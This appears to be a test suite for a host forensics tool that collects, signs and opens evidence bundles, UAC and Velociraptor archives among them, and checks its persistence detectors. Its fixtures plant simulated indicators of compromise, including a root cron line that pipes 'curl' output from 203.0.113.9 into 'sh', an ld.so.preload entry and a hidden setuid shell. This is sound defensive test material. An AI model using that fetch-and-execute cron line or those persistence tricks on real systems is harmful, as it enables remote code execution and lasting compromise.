import { createHash } from 'node:crypto';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { tarOf, type TarFiles } from '../../../../tests/support/tar.ts';
import { zipOf } from '../../../../tests/support/zip.ts';
import { VakthundError } from '../../../base/errors.ts';
import { FolderTree } from '../../tree/folder-tree.ts';
import { inspectHost } from '../inspect-host.ts';
import { openSigningKey, keyId } from '../integrity/keys.ts';
import { runHostQuery } from '../query/host-query.ts';
import type { HostRow } from '../host-row.ts';
import { TableContext } from '../table-context.ts';
import { bodyEntryOf } from './body-file.ts';
import type { Bundle } from './bundle.ts';
import { collectBundle, type CollectOptions } from './collect.ts';
import { openBundle } from './open-bundle.ts';
import { recordTables } from './record-tables.ts';

let folder: string;
let root: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'vakthund-bundle-'));
  root = join(folder, 'root');
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

function put(path: string, content: string | Buffer, mode = 0o644): void {
  const at = join(root, path);
  mkdirSync(dirname(at), { recursive: true });
  writeFileSync(at, content);
  chmodSync(at, mode);
}

/** A root with a job, a preloaded library, a set-id shell, a key and logs. */
function plant(): void {
  put('etc/passwd', 'root:x:0:0::/root:/bin/bash\n');
  put('etc/hostname', 'web1\n');
  put('etc/cron.d/job', '* * * * * root curl -s http://203.0.113.9/a | sh\n');
  put('etc/ld.so.preload', '/usr/lib/x.so\n');
  put('usr/lib/x.so', Buffer.concat([Buffer.from('\u007FELF'), Buffer.alloc(2000, 1)]));
  put('usr/bin/.sh', Buffer.concat([Buffer.from('\u007FELF'), Buffer.alloc(5000, 2)]), 0o4755);
  put(
    'etc/ssh/ssh_host_ed25519_key',
    '-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n-----END OPENSSH PRIVATE KEY-----\n',
    0o600,
  );
  put('var/log/auth.log', 'Mar  1 10:00:00 web1 sshd[1]: Accepted password for root from 203.0.113.9 port 4 ssh2\n');
  symlinkSync('usr/bin', join(root, 'bin'));
}

const limits = { fileBytes: 2 ** 20, totalBytes: 2 ** 24, seconds: 60 };

async function collect(name: string, more: Partial<CollectOptions> = {}) {
  const path = join(folder, name);
  return { path, ...(await collectBundle(path, { root, scope: undefined, limits, hasLogs: true, ...more })) };
}

const told = (claims: ReturnType<typeof inspectHost>['claims']): object[] =>
  claims.map(({ detector, title, path, severity, score, time }) => ({ detector, title, path, severity, score, time }));

describe('host collect', () => {
  it('takes local programs along with every digest that lists name, and scripts whole', async () => {
    plant();
    const [script, program] = ['#!/bin/sh\ncurl http://203.0.113.9/a\n', `\u007FELF${'x'.repeat(100_000)}`];
    put('usr/local/bin/up', script, 0o755);
    put('opt/kit/bin/kit', program, 0o755);
    const { path } = await collect('b.tar.gz');
    const bundle = await openBundle(path);
    const hex = (name: string, text: string): string => createHash(name).update(text).digest('hex');
    for (const name of ['md5', 'sha1', 'sha256']) {
      expect(bundle.tree.digest?.('/usr/local/bin/up', name)).toBe(hex(name, script));
      expect(bundle.tree.digest?.('/opt/kit/bin/kit', name)).toBe(hex(name, program));
    }
    expect(bundle.tree.read('/usr/local/bin/up')?.toString()).toBe(script);
    bundle.close();
  });

  it('takes along what gives the same verdict elsewhere', async () => {
    plant();
    const { path } = await collect('b.tar.zst');
    const bundle = await openBundle(path);
    const there = told(inspectHost(new FolderTree(root)).claims);
    expect(there.length).toBeGreaterThanOrEqual(3);
    expect(told(inspectHost(bundle.tree, { foreign: bundle.foreign }).claims)).toEqual(there);
    expect(bundle).toMatchObject({
      form: 'vakthund',
      host: 'web1',
      problems: [],
      signedBy: undefined,
      live: undefined,
    });
    expect(bundle.tree.read('/var/log/auth.log')?.toString()).toContain('Accepted password');
    bundle.close();
  });

  it('answers queries about files and packages', async () => {
    plant();
    const bundle = await openBundle((await collect('b.tar.gz')).path);
    const context = new TableContext(bundle.tree, bundle.recorded);
    const ask = async (sql: string) => runHostQuery(sql, context, { timeoutMs: 10_000, maxRows: 10 });
    expect((await ask('SELECT command FROM crontab')).rows).toEqual([['root curl -s http://203.0.113.9/a | sh']]);
    expect((await ask("SELECT mode, size FROM file WHERE path = '/usr/bin/.sh'")).rows).toEqual([['4755', 5004]]);
    expect((await ask('SELECT pid FROM processes')).empty).toHaveLength(1);
    bundle.close();
  });

  it('leaves out private keys, what is too large, and logs that nobody wants, and says so', async () => {
    plant();
    put('var/log/huge.log', Buffer.alloc(3 * 2 ** 20, 65));
    const { manifest, path } = await collect('b.tar.gz', { limits: { ...limits, totalBytes: 2 ** 20 } });
    expect(manifest.refused).toContainEqual({ path: '/var/log/huge.log', why: 'the bundle is full' });
    const names = manifest.members.map(({ name }) => name);
    expect(names).not.toContain('root/etc/ssh/ssh_host_ed25519_key');
    const bundle = await openBundle(path);
    expect(bundle.notChecked).toContainEqual({ what: '/var/log/huge.log', why: 'not collected: the bundle is full' });
    bundle.close();
    const { manifest: small } = await collect('c.tar.gz', { hasLogs: false });
    expect(small.members.some(({ name }) => name.includes('var/log/huge'))).toBe(false);
  });

  it('takes the beginning of a file that is too long for it', async () => {
    plant();
    put('var/log/huge.log', Buffer.alloc(3 * 2 ** 20, 65));
    const { manifest, path } = await collect('b.tar.gz');
    expect(manifest.members).toContainEqual(
      expect.objectContaining({ name: 'root/var/log/huge.log', size: 2 ** 20, of: 3 * 2 ** 20 }),
    );
    const bundle = await openBundle(path);
    const { tree } = bundle;
    expect(tree.read('/var/log/huge.log')).toHaveLength(2 ** 20);
    expect([...tree.absent]).toEqual(['/var/log/huge.log']);
    bundle.close();
  });

  it('takes a log whole of which a technique read the head only', async () => {
    plant();
    put('var/log/.hidden', 'a line of a log\n'.repeat(100), 0o755);
    const bundle = await openBundle((await collect('b.tar.gz')).path);
    expect(bundle.tree.read('/var/log/.hidden')).toHaveLength(1600);
    bundle.close();
  });

  it('stops in time and tells what it had no time for', async () => {
    plant();
    const { manifest } = await collect('b.tar.gz', { limits: { ...limits, seconds: 1e-9 } });
    expect(manifest.notChecked).toContainEqual({ what: 'the inspection', why: 'the time was over' });
  });

  it('writes over nothing', async () => {
    plant();
    await collect('b.tar.gz');
    await expect(collect('b.tar.gz')).rejects.toMatchObject({ code: 'OUTPUT' });
  });

  it('takes the processes of this machine, which can be asked later', async () => {
    plant();
    const bundle = await openBundle((await collect('b.tar.gz', { scope: {} })).path);
    const own = bundle.live?.withPid(process.pid);
    expect(own).toMatchObject({ pid: process.pid, executable: process.execPath });
    const programs = bundle.recorded.tables.get('process_programs') ?? [];
    const [program] = programs.filter(({ pid }) => pid === process.pid);
    expect(program).toMatchObject({ on_disk: 1, path: process.execPath });
    bundle.close();
  });

  it('keeps the tables that only the running machine can fill', async () => {
    plant();
    const context = new TableContext(new FolderTree(root, 'live'));
    const tables = new Map<string, readonly HostRow[]>();
    for await (const { name, rows } of recordTables(context, (what, why) => expect.fail(`${what}: ${why}`))) {
      tables.set(name, rows);
    }
    const later = new TableContext(new FolderTree(root), { tables });
    const sql = `SELECT pid, path FROM processes WHERE pid = ${process.pid}`;
    const { rows, empty } = await runHostQuery(sql, later, { timeoutMs: 10_000, maxRows: 10 });
    expect({ rows, empty }).toEqual({ rows: [[process.pid, process.execPath]], empty: [] });
  });
});

describe('a bundle that was changed', () => {
  it('is refused when the manifest is not what was signed', async () => {
    plant();
    const key = openSigningKey(join(folder, 'key.pem'));
    const { path } = await collect('b.tar.gz', { key });
    const bundle = await openBundle(path);
    expect(bundle.signedBy).toBe(keyId(key));
    bundle.close();
    const bytes = gunzipSync(readFileSync(path));
    const at = bytes.lastIndexOf('"host": "web1"');
    bytes.write('"host": "web2"', at);
    writeFileSync(path, gzipSync(bytes));
    await expect(openBundle(path)).rejects.toMatchObject({ code: 'EVIDENCE_READ' });
  });

  it('says which members are not what they were', async () => {
    plant();
    const { path } = await collect('b.tar.gz');
    const bytes = gunzipSync(readFileSync(path));
    bytes.write('203.0.113.8', bytes.indexOf('203.0.113.9'));
    writeFileSync(path, gzipSync(bytes));
    const bundle = await openBundle(path);
    expect(bundle.problems.map(({ code, message }) => [code, message])).toEqual([
      ['checksum-mismatch', 'the member "root/etc/cron.d/job" is not what the manifest says'],
    ]);
    bundle.close();
  });

  it('never throws anything but a refusal, however it is damaged', async () => {
    plant();
    const { path } = await collect('b.tar.gz');
    const whole = gunzipSync(readFileSync(path));
    const damaged = join(folder, 'damaged.tar');
    const codes = new Set<string>();
    await fc.assert(
      fc.asyncProperty(fc.nat(whole.length - 1), fc.nat(255), fc.boolean(), async (at, value, isCut) => {
        const bytes = Buffer.from(whole);
        bytes[at] = value;
        writeFileSync(damaged, isCut ? bytes.subarray(0, at) : bytes);
        const bundle = await openBundle(damaged).catch((error: unknown) => error);
        if (bundle instanceof VakthundError) {
          codes.add(bundle.code);
          return;
        }
        inspectHost((bundle as Bundle).tree);
        (bundle as Bundle).close();
      }),
      { numRuns: 25 },
    );
    expect([...codes].filter((code) => code !== 'EVIDENCE_READ')).toEqual([]);
  });
});

describe('UAC', () => {
  const body = [
    '0|/etc/cron.d/job|12|-rw-r--r--|0|0|60|1700000000|1700000001|1700000002|0',
    'd41d8cd98f00b204e9800998ecf8427e|/usr/bin/.x|13|-rwsr-xr-x|0|0|100|1700000000|1700000001|1700000002|1699999999',
    '0|/bin -> usr/bin|14|lrwxrwxrwx|0|0|7|1700000000|1700000001|1700000002|0',
    'no line of a body file',
  ].join('\n');

  function archive(files: TarFiles): string {
    const path = join(folder, 'uac-web1-linux-20260301100000.tar.gz');
    writeFileSync(path, gzipSync(tarOf(files)));
    return path;
  }

  it('gives the copied files their place, and names and digests from its lists', async () => {
    const bundle = await openBundle(
      archive({
        '[root]/etc/cron.d/job': '* * * * * root curl -s http://203.0.113.9/a | sh\n',
        '[root]/etc/passwd': 'root:x:0:0::/root:/bin/bash\n',
        'bodyfile/bodyfile.txt': body,
        'hash_executables/hash_executables.sha1': `${'a'.repeat(40)}  /usr/bin/.x\n`,
        'live_response/process/ps_-ef.txt': 'UID PID\n',
      }),
    );
    expect(bundle).toMatchObject({ form: 'uac', host: 'web1' });
    expect(bundle.tree.stat('/bin/.x')).toMatchObject({ path: '/usr/bin/.x', mode: 0o4755, inode: 13, size: 100 });
    expect(bundle.tree.digest('/usr/bin/.x', 'sha1')).toBe('a'.repeat(40));
    expect(bundle.tree.digest('/usr/bin/.x', 'sha256')).toBeUndefined();
    expect(bundle.problems).toMatchObject([{ code: 'bad-record', at: { line: 4 } }]);
    expect(bundle.notChecked.map(({ what }) => what)).toEqual([
      'files more than 3 folders deep that were not copied',
      'processes and connections',
    ]);
    const detectors = inspectHost(bundle.tree).claims.map(({ detector }) => detector.split('/')[1]);
    expect(detectors).toEqual(expect.arrayContaining(['cron', 'suid']));
    bundle.close();
  });

  it('gives processes, their connections and modules from what was written of /proc', async () => {
    const stat = (pid: number, name: string): string =>
      `${pid} (${name}) S 1 ${pid} ${pid} 0 -1 4194304 0 0 0 0 5 6 0 0 20 0 1 0 300 4096 1\n`;
    const socket = '   0: 0500000A:9D1E 097100CB:01BB 01 0:0 00:0 0 33 0 4242 1\n';
    const bundle = await openBundle(
      archive({
        '[root]/etc/passwd': 'root:x:0:0::/root:/bin/bash\n',
        'live_response/process/proc/1/stat.txt': stat(1, 'systemd'),
        'live_response/process/proc/1/mounts.txt': '/dev/sda1 / ext4 rw 0 0\n',
        'live_response/process/proc/4711/stat.txt': stat(4711, 'kworker'),
        'live_response/process/proc/4711/cmdline.txt': '/tmp/.x/kworker\0-o\0',
        'live_response/process/proc/4711/environ.txt': 'HOME=/tmp\nA=1\n',
        'live_response/process/proc/4711/mounts.txt': '/dev/sda1 / ext4 rw 0 0\n',
        'live_response/process/proc/4711/fd.txt': 'total 0\nlrwx------ 1 w w 64 Mar  1 10:00 3 -> socket:[4242]\n',
        'live_response/process/proc/88/stat.txt': stat(88, 'nginx'),
        'live_response/process/proc/88/mounts.txt': 'overlay / overlay rw 0 0\n',
        'live_response/process/running_processes_full_paths.txt':
          'lrwxrwxrwx 1 w w 0 Mar  1 10:00 /proc/4711/exe -> /tmp/.x/kworker (deleted)\n',
        'live_response/network/proc_net_tcp.txt': `  sl  local_address rem_address\n${socket}`,
        'live_response/system/lsmod.txt': 'Module  Size  Used by\nnf_nat 57344 2 xt_nat,nft\n',
      }),
    );
    const { live } = bundle;
    expect(live?.processes().map(({ pid, name }) => [pid, name])).toEqual([
      [1, 'systemd'],
      [88, 'nginx'],
      [4711, 'kworker'],
    ]);
    expect(live?.withPid(4711)).toMatchObject({
      executable: '/tmp/.x/kworker',
      isDeleted: true,
      argv: ['/tmp/.x/kworker', '-o'],
    });
    expect(live?.held()).toMatchObject([
      {
        process: { pid: 4711 },
        descriptor: 3,
        socket: { localAddress: '10.0.0.5', remoteAddress: '203.0.113.9', remotePort: 443 },
      },
    ]);
    expect(
      live
        ?.processes()
        .filter((process) => live.isElsewhere(process))
        .map(({ pid }) => pid),
    ).toEqual([88]);
    expect(bundle.recorded.tables.get('process_open_sockets')).toMatchObject([
      { pid: 4711, remote_address: '203.0.113.9' },
    ]);
    expect(bundle.recorded.tables.get('processes')).toContainEqual(
      expect.objectContaining({ pid: 4711, path: '/tmp/.x/kworker', on_disk: 0, start_time: null }),
    );
    expect(bundle.recorded.proc.text('4711/environ')).toBe('HOME=/tmp\0A=1\0');
    expect(bundle.recorded.proc.text('modules')).toBe('nf_nat 57344 2 xt_nat,nft, Live 0x0\n');
    const inspection = inspectHost(bundle.tree, live === undefined ? {} : { live });
    expect(inspection.claims.map(({ detector }) => detector)).toEqual(['persistence/deleted-exe']);
    bundle.close();
  });

  it('gives hard links the content of what they lead to, and tells those that lead nowhere', async () => {
    const bundle = await openBundle(
      archive({
        '[root]/etc/passwd': 'root:x:0:0::/root:/bin/bash\n',
        '[root]/etc/passwd-': { type: '1', target: '[root]/etc/passwd' },
        '[root]/etc/lost': { type: '1', target: '[root]/etc/none' },
        'bodyfile/bodyfile.txt': '',
      }),
    );
    expect(bundle.tree.read('/etc/passwd-')?.toString()).toBe('root:x:0:0::/root:/bin/bash\n');
    expect(bundle.problems).toMatchObject([
      { code: 'bad-record', message: expect.stringContaining('/etc/none') as string },
    ]);
    bundle.close();
  });

  const uacLog = (host: string, mount: string): string =>
    `2026-11-27 10:00:00 +0000 INF Hostname: ${host}\n2026-11-27 10:00:00 +0000 INF Mount point: ${mount}\n`;

  it('takes the mount point off the names of a disk that was mounted for it, and the name from the log', async () => {
    const bundle = await openBundle(
      archive({
        'uac.log': uacLog('db7', '/mnt/disk'),
        '[root]/etc/cron.d/job': '* * * * * root curl -s http://203.0.113.9/a | sh\n',
        'bodyfile/bodyfile.txt': [
          '0|/mnt/disk/usr/local/bin/.x|13|-rwsr-xr-x|0|0|100|1700000000|1700000001|1700000002|0',
          '0|/mnt/other/etc/shadow|14|-rw-------|0|0|7|1700000000|1700000001|1700000002|0',
        ].join('\n'),
        'hash_executables/hash_executables.md5': `${'b'.repeat(32)}  /mnt/disk/usr/local/bin/.x\n`,
      }),
    );
    expect(bundle.host).toBe('db7');
    expect(bundle.tree.stat('/usr/local/bin/.x')).toMatchObject({ mode: 0o4755, inode: 13 });
    expect(bundle.tree.digest('/usr/local/bin/.x', 'md5')).toBe('b'.repeat(32));
    expect(bundle.tree.stat('/mnt')).toBeUndefined();
    expect(bundle.notChecked[0]?.what).toBe('files more than 4 folders deep that were not copied');
    const { claims } = inspectHost(bundle.tree, { hostName: bundle.host ?? '' });
    expect(claims.map(({ path }) => path)).toEqual(expect.arrayContaining(['/etc/cron.d/job', '/usr/local/bin/.x']));
    expect(claims[0]?.entities).toContainEqual({ kind: 'host', value: 'db7' });
    bundle.close();
  });

  it('finds the content of a file that was copied through a link', async () => {
    const bundle = await openBundle(
      archive({
        '[root]/lib/systemd/system/x.service': '[Service]\nExecStart=/bin/true\n',
        'bodyfile/bodyfile.txt': [
          '0|/lib -> usr/lib|14|lrwxrwxrwx|0|0|7|1700000000|1700000001|1700000002|0',
          '0|/usr/lib/systemd/system/x.service|13|-rw-r-----|0|0|36|1700000000|1700000001|1700000002|0',
        ].join('\n'),
      }),
    );
    expect(bundle.tree.read('/usr/lib/systemd/system/x.service')?.toString()).toContain('ExecStart');
    expect(bundle.tree.stat('/lib/systemd/system/x.service')).toMatchObject({ mode: 0o640, inode: 13 });
    bundle.close();
  });

  it('reads one that was unpacked, or never packed', async () => {
    const path = join(folder, 'uac-web1-linux-20260301100000');
    mkdirSync(join(path, '[root]/etc/cron.d'), { recursive: true });
    writeFileSync(join(path, '[root]/etc/cron.d/job'), '* * * * * root curl -s http://203.0.113.9/a | sh\n');
    symlinkSync('/', join(path, '[root]/loop'));
    const bundle = await openBundle(path);
    expect(bundle).toMatchObject({ form: 'uac', host: 'web1' });
    expect(inspectHost(bundle.tree).claims).toMatchObject([{ detector: 'persistence/cron', path: '/etc/cron.d/job' }]);
    bundle.close();
  });

  it('holds names for damaged that no system has', () => {
    expect(bodyEntryOf(`0|${'/a'.repeat(100_000)}|5|-rw-r--r--|0|0|2|0|0|0|0`)).toBeUndefined();
  });

  it('reads modes, links and names with separators', () => {
    expect(bodyEntryOf('0|/a|b -> c|5|-rwSr-s--T|1|2|3|4|5.5|6|0')?.entry).toMatchObject({
      path: '/a|b -> c',
      type: 'file',
      mode: 0o7650,
      uid: 1,
      gid: 2,
      size: 3,
      mtime: 5_500_000,
    });
    expect(bodyEntryOf('0|/a -> /b|5|l/lrwxrwxrwx|0|0|2|0|0|0|0')?.entry).toMatchObject({ path: '/a', target: '/b' });
    expect(bodyEntryOf('0|relative|5|-rw-r--r--|0|0|2|0|0|0|0')).toBeUndefined();
  });
});

describe('Velociraptor', () => {
  it('gives uploads their place', async () => {
    const path = join(folder, 'Collection-web1-2026-03-01T10_00_00Z.zip');
    writeFileSync(
      path,
      zipOf({
        'uploads/auto/etc/cron.d/job': '* * * * * root curl -s http://203.0.113.9/a | sh\n',
        'uploads/auto/etc/a%2Fb%20c': 'x',
        'uploads/ntfs/%5C%5C.%5CC%3A/x': 'not a file of Unix',
        'results/Linux.Sys.Pslist.json': '{}\n',
      }),
    );
    const bundle = await openBundle(path);
    expect(bundle).toMatchObject({ form: 'velociraptor', host: 'web1' });
    expect(bundle.tree.list('/etc').map(({ path: at }) => at)).toEqual(['/etc/a\uFFFDb c', '/etc/cron.d']);
    expect(inspectHost(bundle.tree).claims).toMatchObject([{ detector: 'persistence/cron', path: '/etc/cron.d/job' }]);
    bundle.close();
  });
});

describe('openBundle', () => {
  it('says what is encrypted', async () => {
    const path = join(folder, 'Collection-web1-2026-03-01T10_00_00Z.zip');
    const zip = zipOf({ 'uploads/auto/etc/passwd': 'x', 'results/Linux.Sys.Pslist.json': '{}\n' });
    // Bit 0 of the general purpose flags, in the directory at the end.
    const entry = zip.indexOf('PK\u0001\u0002');
    zip[entry + 8] = 1;
    writeFileSync(path, zip);
    const bundle = await openBundle(path).catch((error: unknown) => error as VakthundError);
    expect('problems' in bundle ? bundle.problems : bundle).toMatchObject([
      { code: 'unsupported', message: expect.stringContaining('is encrypted') as string },
    ]);
  });

  it('refuses what is none', async () => {
    const path = join(folder, 'x.tar');
    writeFileSync(path, tarOf({ a: 'b' }));
    await expect(openBundle(path)).rejects.toMatchObject({ code: 'EVIDENCE_READ' });
    await expect(openBundle(join(folder, 'none'))).rejects.toMatchObject({ code: 'NOT_FOUND' });
  });

  it('bounds what is unpacked, and skips names that lead outside', async () => {
    const path = join(folder, 'x.tar');
    writeFileSync(path, tarOf({ '../../etc/x': 'a', '[root]/etc/passwd': 'x'.repeat(500), '[root]/etc/b': 'y' }));
    const bundle = await openBundle(path, { members: 10, bytes: 100, textBytes: 100 });
    expect(bundle.problems.map(({ code }) => code)).toEqual(['unsafe-path', 'limit-reached', 'limit-reached']);
    expect(bundle.tree.read('/etc/passwd')).toHaveLength(100);
    bundle.close();
  });
});
